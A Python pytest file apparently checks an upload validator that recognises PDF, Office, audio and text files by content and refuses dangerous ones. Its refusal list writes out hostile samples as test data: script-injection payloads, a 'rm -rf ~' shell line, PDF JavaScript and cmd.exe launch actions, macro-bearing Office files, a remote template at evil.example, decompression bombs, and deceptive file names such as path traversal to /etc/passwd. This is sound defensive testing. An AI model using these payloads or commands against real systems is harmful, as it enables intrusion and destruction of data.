"""Which kind a file is, by what is in it: what is taken, what is refused, what is left of it (UP-1 to UP-3, UP-5)."""

from __future__ import annotations

import time
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cunli.media import looking, sounds
from cunli.media.kinds import KINDS, StoredFile, disposition, name_of
from cunli.media.looking import look
from cunli.media.rules import FileRefused, part_of
from cunli.testing.files import box, m4a, mp3, office, ogg, pdf
from cunli.testing.photos import jpeg

PLACE = b"+29.1000+109.9000/ CANARY"


@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        (pdf(), "pdf"),
        (office("docx"), "docx"),
        (office("xlsx"), "xlsx"),
        (office("pptx", ppt__embeddings__chart_dot_xlsx=b"numbers"), "pptx"),
        (mp3(), "mp3"),
        (m4a(), "m4a"),
        (ogg(), "ogg"),
        (ogg(b"\x01vorbis\x00"), "ogg"),
        ("剪枝三步\r\n一、先剪病枝 < 2 厘米".encode(), "text"),
        ("1\n00:00:01,000 --> 00:00:03,000\n大家好".encode(), "text"),
        ("村里的通知".encode("gb18030"), "text"),
        ("村里的通知".encode("utf-16"), "text"),
    ],
)
def test_a_file_is_what_is_in_it(raw: bytes, kind: str) -> None:
    assert look(raw)[0] == kind


REFUSED = [
    b"",
    b"   \n",
    b"<!DOCTYPE html><script>alert(1)</script>",
    b"\xef\xbb\xbf \n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    b"<?php phpinfo(); ?>",
    "<script>alert(1)</script>".encode("utf-16"),
    b"#!/bin/sh\nrm -rf ~",
    b"{\\rtf1 x}",
    b"MZ\x90\x00\x03",
    b"GIF89a/*\x01\x00*/=1;alert(1)",
    jpeg(),
    b"%PDF-1.7\nbroken off",
    pdf(inside=b"1 0 <</S/JavaScript/JS(app.alert(1))>>"),
    pdf(inside=b"1 0 <</S/J#61vaScript/JS(app.alert(1))>>"),
    pdf(inside=b"<</S/Launch/F(cmd.exe)>>"),
    pdf("<</Type/Filespec/EF 1>> /EmbeddedFiles 9 0 R"),
    pdf("/Encrypt 5 0 R"),
    b"<html>" + pdf(),
    b"PK\x03\x04 no archive",
    office("docx", word__vbaProject_dot_bin=b"macros"),
    office("xlsx", xl__activeX__activeX1_dot_xml=b"<x/>"),
    office("docx", word__embeddings__oleObject1_dot_bin=b"MZ"),
    office("docx", xl__workbook_dot_xml=b"two at once"),
    office(
        "docx",
        word___rels__settings_dot_xml_dot_rels=b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm"'
        b' TargetMode="External"/>',
    ),
    b"<b>before</b>" + office(),
    mp3()[:500] + b"<script>",
    b"ID3\x04\x00\x00\xff\xff\xff\xff" + mp3(),
    m4a(handler=b"vide"),
    m4a()[:-3],
    box(b"ftyp", b"M4A ") + box(b"moov", box(b"moov", box(b"moov", box(b"moov", box(b"moov", box(b"moov", b"")))))),
    ogg()[:-1],
    ogg(b"\x80theora\x00"),
]


@pytest.mark.parametrize("raw", REFUSED, ids=range(len(REFUSED)))
def test_what_is_none_of_them_or_can_run_is_refused(raw: bytes) -> None:
    with pytest.raises(FileRefused):
        look(raw)


def test_a_template_at_home_and_links_for_readers_are_no_danger() -> None:
    rels = (
        b'<Relationship Type="http://x/attachedTemplate" Target="file:///C:\\Users\\x\\Normal.dotm" TargetMode="External"/>'
        b'<Relationship Type="http://x/hyperlink" Target="https://example.org/" TargetMode="External"/>'
    )
    assert look(office("docx", word___rels__settings_dot_xml_dot_rels=rels))[0] == "docx"


def test_control_without_unpacking_a_script_in_a_pdf_would_be_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    hidden = pdf(inside=b"<</S/JavaScript/JS(app.alert(1))>>")
    assert b"JavaScript" not in hidden
    monkeypatch.setattr(looking, "_inflated", lambda _raw: iter(()))
    assert look(hidden) == ("pdf", hidden)


@pytest.mark.parametrize("raw", [mp3(tag=PLACE), m4a(tag=PLACE)], ids=["mp3", "m4a"])
def test_a_recording_is_kept_without_what_phones_write_beside_the_sound(raw: bytes) -> None:
    assert b"CANARY" in raw
    kind, kept = look(raw)
    assert b"CANARY" not in kept
    assert kept == (mp3() if kind == "mp3" else kept)
    assert kind == "mp3" or (len(kept) == len(raw) and kept.endswith(raw[-72:])), "nothing moves in an M4A"
    assert look(kept) == (kind, kept)


def test_bombs_are_refused_and_take_no_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(looking, "UNPACKED_MOST", 1_000_000)
    began = time.process_time()
    packed = zlib.compress(bytes(4_000_000), 9)
    bombs = [
        b"%PDF-1.7\n" + (b"stream\n" + packed + b"endstream\n") * 200 + b"%%EOF",
        b"%PDF-1.7\n" + b"stream\nx\x9c" * 500_000 + b"%%EOF",  # many beginnings without an end
        office("docx", word__big_dot_xml=bytes(1_100_000)),
        office("docx", word___rels__x_dot_rels=b"<" * 990_000 * 2),
    ]
    for raw in bombs:
        with pytest.raises(FileRefused):
            look(raw)
    assert time.process_time() - began < 30


@given(st.binary(max_size=400))
def test_whatever_the_bytes_are_they_are_a_kind_or_refused(raw: bytes) -> None:
    for start in (b"", b"%PDF-", b"PK\x03\x04", b"OggS\x00", b"ID3", b"\xff\xfb\x90\x00", b"\x00\x00\x00\x18ftypM4A "):
        try:
            kind, kept = look(start + raw)
        except FileRefused:
            continue
        assert kind in KINDS
        assert kept


@given(st.integers(0, 400), st.binary(min_size=1, max_size=4))
def test_a_broken_file_is_a_kind_or_refused(at: int, junk: bytes) -> None:
    for whole in (pdf(), office(), mp3(), m4a(), ogg()):
        place = at % len(whole)
        try:
            look(whole[:place] + junk + whole[place + len(junk) :])
        except FileRefused:
            continue


@pytest.mark.parametrize(
    ("sent", "kind", "name"),
    [
        ("讲义.pdf", "pdf", "讲义.pdf"),
        ("讲义.PDF", "pdf", "讲义.pdf"),
        ("../../etc/passwd", "text", "passwd.txt"),
        ("C:\\桌面\\讲义.doc", "docx", "讲义.doc.docx"),
        ("page.html", "text", "page.html.txt"),
        ("字幕.srt", "text", "字幕.srt"),
        ("CON.pdf", "pdf", "_CON.pdf"),
        ("\u202efdp.exe", "pdf", "fdp.exe.pdf"),
        ('a\u200bb\x00\r\nc".mp3', "mp3", "ab c.mp3"),
        ("", "pdf", "文件.pdf"),
        (".pdf", "pdf", "文件.pdf"),
        ("长" * 4000 + ".pdf", "pdf", "长" * 80 + ".pdf"),
    ],
)
def test_a_name_is_kept_without_what_deceives(sent: str, kind: str, name: str) -> None:
    assert name_of(sent, kind) == name  # type: ignore[arg-type]


def test_only_sound_is_ever_shown_inline_and_names_break_no_header() -> None:
    file = StoredFile(key="k" * 22, name='讲"义;.pdf', kind="pdf", size=3_400_000)
    said = disposition(file, inline=False)
    assert said.isascii()
    assert said.startswith("attachment; filename=\"file.pdf\"; filename*=UTF-8''%E8%AE%B2%22")
    assert (file.weight, file.plays) == ("3.2 MB", False)
    assert [one for one, kind in KINDS.items() if kind.plays] == ["mp3", "m4a", "ogg"]


@pytest.mark.parametrize(
    ("wanted", "part"),
    [
        ("", (0, 99)),
        ("bytes=0-", (0, 99)),
        ("bytes=10-19", (10, 19)),
        ("bytes=10-1000", (10, 99)),
        ("bytes=-5", (95, 99)),
        ("bytes=-1000", (0, 99)),
        ("bytes=0-1,5-6", (0, 99)),
        ("lines=1-2", (0, 99)),
        ("bytes=-", (0, 99)),
        ("bytes=100-", None),
        ("bytes=9-3", None),
        ("bytes=-0", None),
        ("bytes=" + "9" * 40 + "-", (0, 99)),
    ],
)
def test_a_part_that_a_player_asks_for(wanted: str, part: tuple[int, int] | None) -> None:
    assert part_of(wanted, 100) == part


def test_three_bytes_of_chance_are_no_recording() -> None:
    assert sounds.listen(b"\xff\xfb\x90\x00" + bytes(2000)) is None
    assert sounds.listen(mp3(frames=3)) is None
    assert sounds.listen(mp3(frames=4)) is not None
